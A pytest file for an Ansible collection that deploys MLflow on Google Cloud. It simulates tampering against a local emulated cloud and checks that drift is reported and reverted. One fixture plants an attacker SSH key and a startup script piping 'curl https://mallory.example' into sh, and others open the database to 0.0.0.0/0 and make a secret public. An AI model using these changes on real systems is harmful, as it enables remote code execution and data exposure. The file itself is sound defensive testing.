# Copyright (c) 2026, the mlops.mlflow_gcp authors
# SPDX-License-Identifier: Apache-2.0
"""Changes made outside the playbooks are reported by a plan and by the doctor, and reverted by the next run.

Each property that interrupts or exposes the service is changed through the REST API: a disabled firewall rule, a
stopped VM, an open bucket, a stopped database with a public address, a disabled service account, a secret that the VM
may not read. For some of these the roles had no desired state, so a plan reported no change while all clients were cut
off.
"""

from __future__ import annotations

import base64
import json
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from ansible_collections.mlops.mlflow_gcp.plugins.module_utils._doctor.drift import drift
from ansible_collections.mlops.mlflow_gcp.plugins.module_utils._plan import load

from tests.localcloud.harness import Local, Session
from tests.localcloud.playbooks.playbook import Door, Playbook

PROJECT = "mlflow-local"
COMPUTE = f"/compute/v1/projects/{PROJECT}"
FIREWALLS = f"{COMPUTE}/global/firewalls"
HTTPS, SSH = f"{FIREWALLS}/mlflow-allow-https", f"{FIREWALLS}/mlflow-allow-ssh"
NETWORK = f"{COMPUTE}/global/networks/mlflow-network"
SUBNETWORK = f"{COMPUTE}/regions/europe-west1/subnetworks/mlflow-subnetwork"
VM = f"{COMPUTE}/zones/europe-west1-b/instances/mlflow-server"
BUCKET = f"/storage/v1/b/{PROJECT}-mlflow-artifacts"
DATABASE = f"/sqladmin/v1/projects/{PROJECT}/instances/mlflow-database"
ACCOUNT = f"/iam/v1/projects/{PROJECT}/serviceAccounts/mlflow-server@{PROJECT}.iam.gserviceaccount.com"
SECRET = f"/secretmanager/v1/projects/{PROJECT}/secrets/mlflow-admin-password"
AUTHORITIES = f"/secretmanager/v1/projects/{PROJECT}/secrets/mlflow-database-ca"
RESOURCES = (HTTPS, SSH, NETWORK, SUBNETWORK, VM, BUCKET, f"{BUCKET}/iam", DATABASE, ACCOUNT, SECRET)
POLICY = f"{SECRET}:getIamPolicy"
# Differences after a change and its reversal that have no effect.
VOLATILE = {
    "id", "etag", "fingerprint", "labelFingerprint", "metageneration", "settingsVersion", "updated", "effectiveTime",
    "lockedTime", "creationTimestamp", "lastStartTimestamp", "lastStopTimestamp", "version",
}  # fmt: skip


class Changes:
    """A REST client that changes resources outside the playbooks."""

    def __init__(self, session: Session) -> None:
        self.session = session

    def __call__(self, verb: str, path: str, body: Any = None, **query: str) -> Any:
        options = {"json": body} if body is not None else {}
        answer = self.session.call(verb, path, params=query, **options)
        if str(answer.get("kind", "")).endswith("#operation"):
            self.session.local.cloud.operations.wait(answer["name"], 60)
        return answer

    def instance(self, action: str, body: Any = None, verb: str = "POST", **query: str) -> None:
        self(verb, f"{VM}/{action}", body, **query)


def firewall_rule(change: Changes) -> None:
    """Block the clients and admit other sources."""
    ports = [{"IPProtocol": "tcp", "ports": ["80", "443"]}]
    rule = {"disabled": True, "priority": 65000, "denied": ports, "allowed": []}
    rule |= {"sourceRanges": ["10.9.0.0/16"], "sourceTags": ["strangers"], "destinationRanges": ["10.8.0.0/16"]}
    change("PATCH", HTTPS, rule | {"targetTags": ["others"]})


def direction(change: Changes) -> None:
    """Create a rule with the same name that allows nothing."""
    rule = {"name": "mlflow-allow-ssh", "network": change("GET", SSH)["network"], "direction": "EGRESS"}
    change("DELETE", SSH)
    change("POST", FIREWALLS, rule | {"allowed": [{"IPProtocol": "all"}]})


def network(change: Changes) -> None:
    change("PATCH", NETWORK, {"routingConfig": {"routingMode": "GLOBAL"}})
    change("POST", f"{SUBNETWORK}/setPrivateIpGoogleAccess", {"privateIpGoogleAccess": False})


def instance(change: Changes) -> None:
    found = change("GET", VM)
    keys = {"ssh-keys": "mallory:ssh-ed25519 AAAA mallory", "sshKeys": "mallory:ssh-ed25519 AAAA mallory"}
    metadata = keys | {"enable-oslogin": "TRUE", "startup-script": "curl https://mallory.example | sh"}
    items = [{"key": key, "value": value} for key, value in metadata.items()]
    change.instance("setMetadata", {"items": items, "fingerprint": found["metadata"]["fingerprint"]})
    change.instance("setTags", {"items": [], "fingerprint": found["tags"]["fingerprint"]})
    change.instance("setLabels", {"labels": {}, "labelFingerprint": found["labelFingerprint"]})
    change.instance("setScheduling", {"automaticRestart": False, "onHostMaintenance": "TERMINATE"})
    change.instance("setDeletionProtection", deletionProtection="true")
    change.instance("deleteAccessConfig", accessConfig="External NAT", networkInterface="nic0")
    change("PUT", VM, change("GET", VM) | {"canIpForward": True})
    change.instance("stop")
    account = {"email": found["serviceAccounts"][0]["email"], "scopes": ["https://www.googleapis.com/auth/compute"]}
    change.instance("setServiceAccount", account)
    change.instance("updateShieldedInstanceConfig", {"enableSecureBoot": False}, "PATCH")


def bucket(change: Changes) -> None:
    access = {"uniformBucketLevelAccess": {"enabled": False}, "publicAccessPrevention": "inherited"}
    rules = {"rule": [{"action": {"type": "Delete"}, "condition": {"age": 1}}]}
    document = {"iamConfiguration": access, "lifecycle": rules, "versioning": {"enabled": False}, "labels": None}
    document |= {"billing": {"requesterPays": True}, "retentionPolicy": {"retentionPeriod": "86400"}}
    document |= {"defaultEventBasedHold": True, "softDeletePolicy": {"retentionDurationSeconds": "0"}}
    change("PATCH", BUCKET, document | {"ipFilter": {"mode": "Enabled"}, "storageClass": "COLDLINE"})


def bucket_policy(change: Changes) -> None:
    policy = change("GET", f"{BUCKET}/iam")
    bindings = [binding for binding in policy["bindings"] if binding["role"] != "roles/storage.objectUser"]
    change("PUT", f"{BUCKET}/iam", policy | {"bindings": bindings})


def database(change: Changes) -> None:
    """Expose the database to the Internet without encryption or backups, then stop it."""
    addresses = {"ipv4Enabled": True, "sslMode": "ALLOW_UNENCRYPTED_AND_ENCRYPTED"}
    addresses |= {"enablePrivatePathForGoogleCloudServices": True, "authorizedNetworks": [{"value": "0.0.0.0/0"}]}
    settings = {"ipConfiguration": addresses, "connectorEnforcement": "REQUIRED", "deletionProtectionEnabled": False}
    settings |= {"backupConfiguration": {"enabled": False, "pointInTimeRecoveryEnabled": False}}
    settings |= {
        "storageAutoResize": False,
        "storageAutoResizeLimit": "20",
        "databaseFlags": [],
        "userLabels": {"app": None, "mlflow-deployment": None},
    }
    change("PATCH", DATABASE, {"settings": settings})
    change("PATCH", DATABASE, {"settings": {"activationPolicy": "NEVER"}})


def account(change: Changes) -> None:
    change("POST", f"{ACCOUNT}:disable", {})


def secret(change: Changes) -> None:
    change("POST", f"{SECRET}:setIamPolicy", {"policy": {"bindings": []}})
    change("PATCH", SECRET, {"labels": {}}, updateMask="labels")


def opened_secret(change: Changes) -> None:
    """Make the database's password readable for everyone."""
    path = SECRET.replace("admin-password", "database-uri")
    policy = change("GET", f"{path}:getIamPolicy")
    binding = {"role": "roles/secretmanager.secretAccessor", "members": ["allUsers"]}
    change("POST", f"{path}:setIamPolicy", {"policy": policy | {"bindings": [*policy["bindings"], binding]}})


# The change, and the plan's report of it.
DRIFT: dict[str, tuple[Callable[[Changes], None], set[str]]] = {
    "firewall rule mlflow-allow-https": (
        firewall_rule,
        {"allowed", "disabled", "priority", "sourceRanges", "sourceTags", "destinationRanges", "targetTags"},
    ),
    "firewall rule mlflow-allow-ssh": (
        direction,
        {"allowed", "destinationRanges", "direction", "sourceRanges", "targetTags"},
    ),
    "network mlflow-network": (network, {"routingConfig.routingMode"}),
    "subnetwork mlflow-subnetwork": (lambda _: None, {"privateIpGoogleAccess"}),
    "instance mlflow-server": (
        instance,
        {
            "canIpForward", "deletionProtection", "labels.app", "labels.mlflow-deployment",
            "metadata.block-project-ssh-keys", "metadata.enable-guest-attributes", "metadata.enable-oslogin",
            "metadata.ssh-keys", "metadata.sshKeys",
            "metadata.startup-script", "networkInterface.natIP", "scheduling.automaticRestart",
            "scheduling.onHostMaintenance", "serviceAccount.scopes", "shieldedInstanceConfig.enableSecureBoot",
            "status", "tags.items",
        },
    ),
    f"bucket {PROJECT}-mlflow-artifacts": (
        bucket,
        {
            "billing.requesterPays", "defaultEventBasedHold", "iamConfiguration.publicAccessPrevention",
            "iamConfiguration.uniformBucketLevelAccess.enabled", "ipFilter.mode", "labels", "lifecycle.rule",
            "retentionPolicy", "softDeletePolicy.retentionDurationSeconds", "storageClass", "versioning.enabled",
        },
    ),
    f"roles/storage.objectUser for serviceAccount:mlflow-server@{PROJECT}.iam.gserviceaccount.com on bucket "
    f"{PROJECT}-mlflow-artifacts": (bucket_policy, {"missing"}),
    "Cloud SQL instance mlflow-database": (
        database,
        {
            "settings.activationPolicy", "settings.backupConfiguration.enabled",
            "settings.backupConfiguration.pointInTimeRecoveryEnabled", "settings.connectorEnforcement",
            "settings.databaseFlags", "settings.deletionProtectionEnabled",
            "settings.ipConfiguration.authorizedNetworks",
            "settings.ipConfiguration.enablePrivatePathForGoogleCloudServices",
            "settings.ipConfiguration.ipv4Enabled", "settings.ipConfiguration.sslMode", "settings.storageAutoResize",
            "settings.storageAutoResizeLimit", "settings.userLabels",
        },
    ),
    "service account mlflow-server": (account, {"disabled"}),
    "secret mlflow-admin-password": (secret, {"labels.app", "labels.mlflow-deployment"}),
    f"roles/secretmanager.secretAccessor for serviceAccount:mlflow-server@{PROJECT}.iam.gserviceaccount.com on secret "
    "mlflow-admin-password": (lambda _: None, {"missing"}),
    f"roles/secretmanager.secretAccessor for serviceAccount:mlflow-server@{PROJECT}.iam.gserviceaccount.com on secret "
    "mlflow-database-uri": (opened_secret, {"publicMembers"}),
}  # fmt: skip


@dataclass
class Deployment:
    """A provisioned deployment."""

    local: Local
    playbook: Playbook

    def documents(self) -> dict[str, Any]:
        """Return all resources as the API shows them."""
        session = self.local.session()
        found = {path: session.call("GET", path) for path in RESOURCES}
        return {path: stable(document) for path, document in (found | {POLICY: session.call("GET", POLICY)}).items()}


def stable(value: Any) -> Any:
    """Return a document without volatile and disabled fields."""
    if isinstance(value, dict):
        kept = {key: stable(item) for key, item in value.items() if key not in VOLATILE}
        return {key: item for key, item in kept.items() if item not in (None, {}, [], False, "Disabled")}
    if isinstance(value, list):
        return sorted((stable(item) for item in value), key=lambda item: json.dumps(item, sort_keys=True))
    return value


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployment]:
    folder = tmp_path_factory.mktemp("drift")
    local = Local(folder / "home")
    local.start()
    try:
        playbook = Playbook(local, Door(), folder)
        playbook.to_the_end()
        yield Deployment(local, playbook)
    finally:
        local.stop()


def test_what_needs_the_database_says_that_it_is_stopped(deployment: Deployment) -> None:
    """While the database was stopped, playbooks failed halfway; the message named neither the instance nor a remedy."""
    change = Changes(deployment.local.session())
    change("PATCH", DATABASE, {"settings": {"activationPolicy": "NEVER"}})
    playbook = deployment.playbook
    for name in ("backup", "upgrade", "rotate", "gc"):
        assert playbook.run("-e", "backup_count_rows=false", playbook=name) == 2, playbook.output[-5000:]
        assert (
            "Cloud SQL instance mlflow-database is stopped (state RUNNABLE, activationPolicy NEVER)" in playbook.output
        )
        start = f"gcloud sql instances patch mlflow-database --activation-policy=ALWAYS --project={PROJECT}"
        assert start in " ".join(playbook.output.split()), playbook.output[-5000:]
    change("PATCH", DATABASE, {"settings": {"activationPolicy": "ALWAYS"}})


def plan(playbook: Playbook) -> tuple[dict[str, set[str]], str]:
    """Return the differences in `--check --diff`, and the output that the doctor reads."""
    usual = dict(playbook.environment)
    enabled = filter(None, [usual.get("ANSIBLE_CALLBACKS_ENABLED"), "mlops.mlflow_gcp.plan"])
    playbook.environment |= {"ANSIBLE_CALLBACKS_ENABLED": ",".join(enabled), "MLFLOW_GCP_PLAN_FILE": "/dev/stdout"}
    try:
        assert playbook.run("--check", "--diff") == 0, playbook.output[-5000:]
    finally:
        playbook.environment = usual
    found = load(playbook.output)
    assert found is not None, playbook.output[-5000:]
    return {
        change.resource: {"missing"} if change.action == "create" else set(change.fields) for change in found.changes
    }, playbook.output


def test_what_somebody_changed_is_seen_and_put_back(deployment: Deployment) -> None:
    before = deployment.documents()
    change = Changes(deployment.local.session())
    change("POST", f"{DATABASE}/addServerCa")
    for flip, _ in DRIFT.values():
        flip(change)
    flipped = deployment.documents()
    assert [path for path in before if before[path] == flipped[path]] == []

    found, printed = plan(deployment.playbook)
    assert found == {what: fields for what, (_, fields) in DRIFT.items()}
    assert deployment.documents() == flipped
    created = sum(fields == {"missing"} for fields in found.values())
    assert f"\nPlan: {created} to create, {len(found) - created} to change, 0 to delete\n" in printed
    result = drift(printed, 0)
    assert result.state == "fail"
    assert f"{len(DRIFT)} differ" in result.value

    assert deployment.playbook.to_the_end() >= len(DRIFT)
    assert deployment.documents() == before
    # The next CA of the database server was added meanwhile: both CAs are trusted, also after the rotation.
    certificates = [certificate["cert"] for certificate in change("GET", f"{DATABASE}/listServerCas")["certs"]]
    assert len(certificates) == 2
    stored = change("GET", f"{AUTHORITIES}/versions/latest:access")["payload"]["data"]
    assert base64.b64decode(stored).decode() == "".join(certificates)
    change("POST", f"{DATABASE}/rotateServerCa", {})
    assert deployment.playbook.to_the_end() == 0


def test_a_run_without_changes_reads_few_resources_again(deployment: Deployment) -> None:
    """Reads of the preflight, of a secret with its payload, and of the network of a connection are repeated."""
    log = deployment.local.cloud.calls
    mark = log.mark()
    assert deployment.playbook.to_the_end() == 0
    api = [c for c in log.since(mark) if not c["method"].startswith(("oauth2.", "iamcredentials.", "storage.objects."))]
    number = Counter(f"{c['method']} {c['path']}" for c in api)
    again = Counter({name.rpartition("/")[2]: count - 1 for name, count in number.items() if count > 1})
    assert again == {
        "instances": 1,  # the inventory, before and after the run
        f"mlflow-server@{PROJECT}.iam.gserviceaccount.com": 1,
        f"{PROJECT}-mlflow-artifacts": 1,
        "mlflow-ca": 2,
        "mlflow-certificate": 1,
        "mlflow-database-ca": 1,
        "mlflow-database-uri": 1,
        "mlflow-network": 1,
        "mlflow-server": 1,
    }
    assert number.total() <= 57
